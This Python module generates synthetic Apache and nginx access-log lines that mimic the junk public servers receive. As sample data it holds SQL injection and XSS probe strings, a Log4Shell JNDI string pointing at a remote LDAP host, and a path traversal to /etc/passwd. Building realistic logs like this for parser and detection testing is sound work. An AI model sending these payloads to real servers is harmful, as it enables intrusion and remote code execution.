"""Messy lines: the junk every public server logs, mixed into clean traffic at a given share.

A share of requests (chosen by a hash of the request, so the same run gives the same lines)
becomes one of the kinds below, each at its relative frequency (per 1,000 messy lines): what
a small public site on the internet sees besides its visitors, ordered from the most common.
Each is written as Apache writes it, with the same escaping: a TLS ClientHello sent to the
HTTP port is a ``400`` whose request line is the handshake's first bytes as ``\\x16\\x03``; a
connection that sent nothing is ``"-" 408 -``; a host name stands where HostnameLookups writes
one; and the last line of a run may be cut short, as Apache leaves a line when killed. In an
nginx ``log_format`` each kind is what nginx writes for the same client (``nginx_values``): an
empty request is ``"" 400 0``, a request line it cannot parse a 400 with its own error page, a
too long one a 414 cut at 8 KB, and the address stays an address. nginx writes each log line in
one write, so it never leaves half a line: its ``truncated`` lines are instead the requests a
client cut short, a request line that stops part way (the client closed the connection, or sent
nothing more until client_header_timeout), which nginx logs whole.

The run's ``messy.jsonl`` (``synth.run.messy``) names each such line: file, line, kind, and
what the bundled pipeline does with it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import numpy as np

from synth.escape import _TABLE, apache_unescape
from synth.generate.pools import ERROR_SIZE_TABLE, Pools
from synth.generate.traffic import Events
from synth.render.connections import mix
from synth.render.fields import header_bytes

TRUNCATED = "truncated"


@dataclass(frozen=True)
class Kind:
    name: str
    weight: int  # per 1,000 messy lines
    what: str


KINDS = (
    Kind("empty_request", 230, 'a connection that sent no request before the timeout: "-" 408'),
    Kind("scanner_sql", 120, "SQL injection in the path or query (a vulnerability scanner)"),
    Kind("tls_handshake", 110, "a TLS ClientHello sent to the plain-HTTP port: 400"),
    Kind("scanner_xss", 100, "<script> in the query (a vulnerability scanner)"),
    Kind("hostname", 80, "a host name where HostnameLookups writes one instead of the address"),
    Kind("scanner_jndi", 60, "${jndi:ldap://...} in the agent and the query (Log4Shell probes)"),
    Kind("absolute_uri", 60, "an absolute URI in the request line (an open-proxy probe)"),
    Kind("connect", 50, "CONNECT host:443 (an open-proxy probe): 405"),
    Kind("dash_header", 50, 'a client that sends "-" as its User-Agent and Referer'),
    Kind("raw_space", 40, "a raw space in the target: 400"),
    Kind("raw_quote", 30, "a raw quote in the target (escaped as \\\" in the line)"),
    Kind("non_utf8", 30, "bytes that are not UTF-8 in the target (escaped \\xhh)"),
    Kind("ssh_handshake", 20, "an SSH client's banner sent to the HTTP port: 400"),
    Kind("http09", 10, 'an HTTP/0.9 request line, no protocol: "GET /"'),
    Kind("long_url", 10, "a request line past LimitRequestLine (8190 bytes): 414, the line cut there"),
)
KIND_NAMES = tuple(k.name for k in KINDS) + (TRUNCATED,)  # a kind's index is its place here
TRUNCATED_INDEX = len(KINDS)
_CDF = np.cumsum([k.weight for k in KINDS]) / sum(k.weight for k in KINDS)
LIMIT_REQUEST_LINE = 8190
# nginx: of 1,000 messy lines, this many are requests a client cut short (the other kinds keep
# their relative weights). Apache's one truncated line is the run's last, cut in the file.
NGINX_TRUNCATED_WEIGHT = 20


def choose(events: Events, share: float, nginx: bool = False) -> np.ndarray:
    """The kind of each request (index into KIND_NAMES), -1 for the clean ones. In an nginx
    format, NGINX_TRUNCATED_WEIGHT of 1,000 messy lines are ``truncated`` (TRUNCATED_INDEX),
    drawn from other bits of the same hash, so every other line keeps its kind."""
    if share <= 0 or len(events) == 0:
        return np.full(len(events), -1, np.int64)
    h = mix(events.t_ms, events.client, events.target, events.agent, np.full(len(events), 0x6D657373))
    messy = (h % 1_000_000) < int(round(share * 1_000_000))
    kind = np.minimum(np.searchsorted(_CDF, ((h >> 20) % 1_000_000) / 1_000_000, side="right"), len(KINDS) - 1)
    if nginx:
        kind = np.where((h >> 44) % 1000 < NGINX_TRUNCATED_WEIGHT, TRUNCATED_INDEX, kind)
    return np.where(messy, kind, -1)


def nginx_scenario(format: str, nginx_log_format: str | None) -> bool:
    """Whether a run's lines are written as nginx writes them (nginx_combined or a log_format)."""
    return bool(nginx_log_format) or format == "nginx_combined"


@dataclass
class Messy:
    """What a messy line says instead of the request's own values (raw, not yet escaped)."""

    request: str | None = None  # the request line; "" for none ("-" in the log)
    status: int | None = None
    size: int | None = None
    agent: str | None = None
    referrer: str | None = None
    client: str | None = None  # a host name for %h
    unparsed: bool = False  # nginx could not parse the request line: no method, URI or protocol
    bytes_sent: int | None = None  # nginx's $bytes_sent: status line, headers and body
    request_length: int | None = None  # nginx's $request_length: request line and headers read


# What nginx writes for the same junk, where it differs from Apache (nginx 1.24, stock
# configuration; nginx/nginx src/http/ngx_http_request.c, ngx_http_parse.c, ngx_http_variables.c,
# modules/ngx_http_log_module.c, ngx_http_special_response.c):
# - A connection that sends nothing is never logged: ngx_http_wait_request_handler closes it on
#   "client timed out" or "client closed connection" before a request exists (and an idle
#   keep-alive connection likewise, in ngx_http_keepalive_handler), so nginx has no `"-" 408`.
#   What it logs from such clients is an empty line and a close: ngx_http_parse_request_line sets
#   request_start before it skips CR and LF, ngx_http_read_request_header finalizes the request
#   with 400 on "client prematurely closed connection" (c->error: nothing is sent, so
#   $body_bytes_sent is 0), and $request (ngx_http_variable_request_line: request_start up to the
#   first CR or LF) is found but empty, which ngx_http_log_variable writes as nothing, `"" 400 0`
#   (a variable not found is "-").
# - A request line that does not parse (TLS or SSH bytes: "client sent invalid method"; a raw
#   space: "client sent invalid request", refused since nginx 1.21.1; an authority-form CONNECT
#   target, which fails at sw_schema_slash) is answered with nginx's own 400 page, and $request is
#   the bytes up to the first CR or LF, escaped \xHH (uppercase hex, ngx_http_log_escape). The
#   headers are never read, so $http_user_agent and $http_referer are "-".
# - A request line past large_client_header_buffers (4 8k) is "client sent too long URI": 414,
#   $request the first 8,192 bytes (request_line.len = header_in->end - request_start).
# - nginx does no reverse lookups: $remote_addr is always the address.
# Error pages: ngx_http_error_400_page (and _414_) with the server_tokens tail
# "<hr><center>nginx/1.24.0</center>": 157 and 177 bytes; public logs show `" 400 157 "-" "-"`
# for such lines (globalmac/KnuckleLog issue 4).
# - A request line cut short (``truncated``): the client sent part of a request line and then
#   closed the connection ("client prematurely closed connection" in
#   ngx_http_read_request_header: c->error, ngx_http_finalize_request(r, NGX_HTTP_BAD_REQUEST),
#   which terminates the request without a response: 400, nothing sent), or sent nothing more
#   until client_header_timeout ("client timed out" in ngx_http_process_request_line:
#   ngx_http_close_request(r, NGX_HTTP_REQUEST_TIME_OUT): 408, nothing sent). ngx_http_free_request
#   sets the status (rc) when nothing was sent and logs the request. $request is what arrived:
#   ngx_http_variable_request_line, with request_line still unset, takes request_start up to
#   header_in->last (no CR or LF came); the method, URI and protocol are set only once the line
#   parses, so they are "-", and so are the headers, never read.
# $request_length is r->request_length (ngx_http_variable_request_length,
# ngx_http_log_request_length), first set when the request line has parsed
# (ngx_http_process_request_line: header_in->pos - request_start, the line and its CRLF) and
# grown by each header line (ngx_http_process_request_headers): a request whose line never parsed
# (every 400 and 414 above, and the cut ones) logs 0 however many bytes nginx read; an HTTP/0.9
# line has no headers (it is processed as soon as its line parses). $bytes_sent is
# c->sent and $body_bytes_sent c->sent - header_size (ngx_http_log_module.c): 0 and 0 when
# nothing was sent. nginx's own error page goes out with the header ngx_http_header_filter
# writes (ngx_http_header_filter_module.c): "HTTP/1.1 400 Bad Request" (or "414 Request-URI
# Too Large"), Server: nginx/1.24.0, Date, Content-Type: text/html, Content-Length and, as
# ngx_http_special_response_handler turns keepalive off for these statuses, Connection: close;
# an HTTP/0.9 response has no header (r->http_version < NGX_HTTP_VERSION_10: the filter sends
# none), and a request whose line failed to parse answers in HTTP/1.1 all the same
# (ngx_http_alloc_request starts every request at NGX_HTTP_VERSION_10).
NGINX_400_SIZE, NGINX_414_SIZE = 157, 177
NGINX_LARGE_HEADER_BUFFER = 8192
_NGINX_HEADER = ("Server: nginx/1.24.0\r\n" "Date: Tue, 01 Dec 2026 21:00:00 GMT\r\n" "Content-Type: text/html\r\n"
                 "Content-Length: {length}\r\n" "Connection: close\r\n\r\n")


def nginx_error_bytes(status_line: str, page: int) -> int:
    """$bytes_sent of nginx's own error page: ``HTTP/1.1 {status_line}``, its headers and the page."""
    return len(f"HTTP/1.1 {status_line}\r\n") + len(_NGINX_HEADER.format(length=page)) + page


NGINX_400_SENT = nginx_error_bytes("400 Bad Request", NGINX_400_SIZE)  # 309
NGINX_414_SENT = nginx_error_bytes("414 Request-URI Too Large", NGINX_414_SIZE)  # 339


@dataclass(frozen=True)
class Clean:
    """What an nginx messy line needs of the clean request it replaces (raw, unescaped)."""

    request: str  # the request line
    request_length: int  # its $request_length
    agent: str  # its User-Agent ("" for none)
    referrer: str  # its Referer ("" for none)


def nginx_values(kind: int, h: int, address: str, home_size: int, clean: Clean) -> Messy:
    """The values of one messy line of ``kind`` (an index into KIND_NAMES) as nginx writes it
    (see above)."""
    name = KIND_NAMES[kind]
    if name == TRUNCATED:
        sent = clean.request.encode("utf-8", errors="surrogateescape")
        came = sent[:1 + (h >> 8) % len(sent)].decode("utf-8", errors="surrogateescape")
        return Messy(request=came, status=408 if h % 4 == 0 else 400, size=0, agent="", referrer="", unparsed=True,
                     bytes_sent=0, request_length=0)
    if name == "empty_request":
        return Messy(request="", status=400, size=0, agent="", referrer="", unparsed=True, bytes_sent=0,
                     request_length=0)
    if name == "hostname":
        return Messy()
    m = messy_values(kind, h, address, home_size)
    if name in ("tls_handshake", "ssh_handshake", "raw_space", "connect"):
        line = m.request or ""
        cut = min((i for i in (line.find("\r"), line.find("\n")) if i >= 0), default=len(line))
        return Messy(request=line[:cut], status=400, size=NGINX_400_SIZE, agent="", referrer="", unparsed=True,
                     bytes_sent=NGINX_400_SENT, request_length=0)
    if name == "long_url":
        line = "GET /" + "?" + "A" * 9000 + " HTTP/1.1"
        return Messy(request=line[:NGINX_LARGE_HEADER_BUFFER], status=414, size=NGINX_414_SIZE, agent="",
                     referrer="", unparsed=True, bytes_sent=NGINX_414_SENT, request_length=0)
    if name == "http09":  # no headers either way
        m.request_length, m.bytes_sent = _raw_len(m.request or "") + 2, m.size
        return m
    # A request line that parses: the clean request's length with this line, agent and referrer.
    request = m.request if m.request is not None else clean.request
    m.request_length = (clean.request_length + _raw_len(request) - _raw_len(clean.request)
                        + _header_delta("User-Agent", m.agent, clean.agent)
                        + _header_delta("Referer", m.referrer, clean.referrer))
    if m.status is not None and m.size is not None:
        m.bytes_sent = header_bytes(m.status, "text/html; charset=UTF-8") + m.size
    return m


def _raw_len(text: str) -> int:
    return len(text.encode("utf-8", errors="surrogateescape"))


def _header_delta(name: str, new: str | None, old: str) -> int:
    """How many more bytes a request header line takes with value ``new`` than with ``old``
    (None: unchanged; "": no such header)."""
    if new is None:
        return 0
    size = {v: len(f"{name}: ") + _raw_len(v) + 2 if v else 0 for v in (new, old)}
    return size[new] - size[old]


def messy_values(kind: int, h: int, address: str, home_size: int) -> Messy:
    """The values of one messy line of ``kind``, varied by the request's hash ``h``, as Apache
    writes them."""
    name = KINDS[kind].name
    error = int(ERROR_SIZE_TABLE[400])
    if name == "empty_request":
        return Messy(request="", status=408, size=0, agent="", referrer="")
    if name == "tls_handshake":
        raw = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + (h.to_bytes(8, "big") * 2)[:10]
        hello = raw.decode("utf-8", errors="surrogateescape")
        return Messy(request=hello, status=400, size=error, agent="", referrer="")
    if name == "ssh_handshake":
        return Messy(request=("SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.9p1")[h % 3],
                     status=400, size=error, agent="", referrer="")
    if name == "scanner_sql":
        target = ("/index.php?id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20-", "/item/1'%20OR%20'1'='1",
                  "/product.php?id=-1%20OR%201=1--", "/?p=1%27)%20AND%20SLEEP(5)--")[h % 4]
        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]),
                     agent="sqlmap/1.7.2#stable (https://sqlmap.org)" if h % 2 else "")
    if name == "scanner_xss":
        target = ("/search.php?q=<script>alert(document.domain)</script>", "/?s=<script>alert(1)</script>",
                  "/index.php?page=<svg/onload=alert(1)>")[h % 3]
        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]))
    if name == "scanner_jndi":
        payload = f"${{jndi:ldap://45.83.{h % 250}.{(h >> 8) % 250}:1389/Exploit}}"
        return Messy(request=f"GET /?x={payload} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]),
                     agent=payload, referrer=payload if h % 3 == 0 else None)
    if name == "absolute_uri":
        host = ("http://www.google.com/", "http://example.com/", "http://checkip.amazonaws.com/")[h % 3]
        return Messy(request=f"GET {host} HTTP/1.1", status=200, size=home_size, referrer="")
    if name == "connect":
        host = ("www.google.com:443", "api.ipify.org:443", "1.1.1.1:443")[h % 3]
        return Messy(request=f"CONNECT {host} HTTP/1.1", status=405, size=int(ERROR_SIZE_TABLE[405]), referrer="",
                     agent="Go-http-client/1.1")
    if name == "dash_header":
        return Messy(agent="-", referrer="-")
    if name == "raw_space":
        target = ("/wp-content/uploads/My Photo.jpg", "/files/annual report 2025.pdf", "/a b")[h % 3]
        return Messy(request=f"GET {target} HTTP/1.1", status=400, size=error)
    if name == "raw_quote":
        return Messy(request='GET /page"onmouseover="alert(1) HTTP/1.1', status=404, size=int(ERROR_SIZE_TABLE[404]))
    if name == "non_utf8":
        target = ("/caf\udce9/men\udcfc", "/\udcc0\udcaf\udcc0\udcafetc/passwd", "/%c0%ae%c0%ae/\udcff")[h % 3]
        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]))
    if name == "http09":
        return Messy(request="GET /", status=200, size=home_size, agent="", referrer="")
    if name == "long_url":
        line = "GET /" + "?" + "A" * 9000 + " HTTP/1.1"
        return Messy(request=line[:LIMIT_REQUEST_LINE], status=414, size=int(ERROR_SIZE_TABLE[414]),
                     agent="", referrer="")
    if name == "hostname":
        return Messy(client=host_name(address, h))
    raise KeyError(name)


def host_name(address: str, h: int) -> str:
    """The reverse DNS name an access provider gives an address."""
    if ":" in address:
        return f"{address.replace(':', '-').strip('-')}.ipv6.{('telekom.de', 'comcast.net', 'ocn.ne.jp')[h % 3]}"
    dashed = address.replace(".", "-")
    return (f"{dashed}.dyn.example-isp.net", f"host-{dashed}.static.as{h % 60000}.net",
            f"ip{dashed}.ct.st.cox.net")[h % 3]


def _row(values: dict[str, str]) -> Any:
    class Row:
        def __getattr__(self, name: str) -> Any:
            if name in values:
                return values[name]
            return lambda arg: values[f'{name}("{arg}")']
    return Row()


def _apache(raw: str) -> str:
    """Apache's escaping of raw request bytes (non-UTF-8 bytes held as surrogate escapes)."""
    if not raw:
        return "-"
    return "".join(_TABLE[b] for b in raw.encode("utf-8", errors="surrogateescape"))


def override(values: dict[str, str], m: Messy) -> dict[str, str]:
    """A line's field texts with a messy line's values put in, escaped as each format does."""
    from synth.render.nginx import escape_value
    out = dict(values)
    request = m.request
    parts = request.split(" ") if request else []
    method = parts[0] if len(parts) >= 2 else ""
    target = " ".join(parts[1:-1]) if len(parts) >= 3 else (parts[1] if len(parts) == 2 else "")
    protocol = parts[-1] if len(parts) >= 3 and parts[-1].startswith("HTTP/") else ""
    for label in values:
        name, _, arg = label.partition("(")
        if name == "nginx":
            mode, var = arg.strip('")').split("|", 1)
            if var == "request" and request == "":
                out[label] = ""  # found, and empty: nginx writes nothing between the quotes
                continue
            raw = {"request": request, "request_method": method if request is not None else None,
                   "request_uri": target if request is not None else None, "status": _str(m.status),
                   "body_bytes_sent": _str(m.size), "http_user_agent": m.agent, "http_referer": m.referrer,
                   "server_protocol": protocol if request is not None else None, "bytes_sent": _str(m.bytes_sent),
                   "request_length": _str(m.request_length)}.get(var)
            if m.unparsed and var in _PARSED_ONLY:
                raw = ""  # set only once the request line parses (ngx_http_process_request_line)
            if raw is not None:
                out[label] = escape_value(raw, mode)
            continue
        if name in _NGINX_LABELS:  # nginx_combined's fields, escaped as nginx does
            raw = {"request_nginx": request, "agent_nginx": m.agent, "referer_nginx": m.referrer}[name]
            if raw is not None:
                out[label] = "" if name == "request_nginx" and raw == "" else escape_value(raw, "default")
            continue
        if name == "client" and m.client is not None:
            out[label] = m.client
        elif name == "request" and request is not None:
            out[label] = _apache(request)
        elif name == "method" and request is not None:
            out[label] = method or "-"
        elif name == "path" and request is not None:
            out[label] = _apache(target.split("?", 1)[0])
        elif name == "query" and request is not None:
            out[label] = _apache("?" + target.split("?", 1)[1]) if "?" in target else ""
        elif name == "protocol" and request is not None:
            out[label] = (protocol or "HTTP/0.9") if request else "-"
        elif name == "status" and m.status is not None:
            out[label] = str(m.status)
        elif name == "bytes" and m.size is not None:
            out[label] = str(m.size) if m.size else "-"
        elif name == "body_bytes" and m.size is not None:
            out[label] = str(m.size)
        elif name == "agent" and m.agent is not None:
            out[label] = _apache(m.agent)
        elif name == "referer" and m.referrer is not None:
            out[label] = _apache(m.referrer)
    return out


_NGINX_LABELS = ("request_nginx", "agent_nginx", "referer_nginx")
_PARSED_ONLY = ("request_method", "request_uri", "uri", "args", "query_string", "server_protocol")


def is_nginx(values: dict[str, str]) -> bool:
    """Whether a line's fields are nginx's (an nginx log_format, or nginx_combined)."""
    return any(label.startswith("nginx(") or label in _NGINX_LABELS for label in values)


def _str(value: int | None) -> str | None:
    return None if value is None else str(value)


class MessyRenderer:
    """A LineRenderer whose lines are, at ``share``, messy lines instead (same count, same order)."""

    def __init__(self, inner: Any, share: float, pools: Pools):
        self.inner, self.share, self.pools = inner, share, pools
        targets = pools.site.targets
        home = targets.index("/") if "/" in targets else 0
        self.home_size = int(pools.site.size[home])
        from synth.render.lines import label, layout
        self.nginx = is_nginx({label(*item): "" for item in layout(inner.template) if isinstance(item, tuple)})

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)

    def render(self, events: Events) -> bytes:
        kinds = choose(events, self.share, self.nginx)
        messy = np.flatnonzero(kinds >= 0)
        block = self.inner.render(events)
        if len(messy) == 0:
            return block
        lines = block.split(b"\n")
        picked = events.take(messy)
        hashes = mix(picked.t_ms, picked.client, picked.agent).tolist()
        addresses = self.pools.population.addresses
        cleans = self._cleans(picked) if self.nginx else [None] * len(messy)
        for i, values, kind, h, client, clean in zip(messy.tolist(), self.inner.field_values(picked),
                                                     kinds[messy].tolist(), hashes, picked.client.tolist(), cleans):
            address = apache_unescape(addresses[client])
            if clean is not None:
                m = nginx_values(kind, h, address, self.home_size, clean)
            else:
                m = messy_values(kind, h, address, self.home_size)
            text = self.inner.template.render(events=[_row(override(values, m))])
            lines[i] = text.rstrip("\n").encode("utf-8", errors="surrogateescape")
        return b"\n".join(lines)

    def _cleans(self, picked: Events) -> list[Clean]:
        """The clean requests behind ``picked``'s messy lines."""
        tables = self.inner.tables
        requests = tables.request_texts(tables.response_key(picked))
        lengths = tables.request_bytes(picked).tolist()
        agents, referrers = self.pools.population.agents, self.pools.referrers.values
        return [Clean(apache_unescape(r), n, apache_unescape(agents[a]), apache_unescape(referrers[f]) if f else "")
                for r, n, a, f in zip(list(requests), lengths, picked.agent.tolist(), picked.referrer.tolist())]
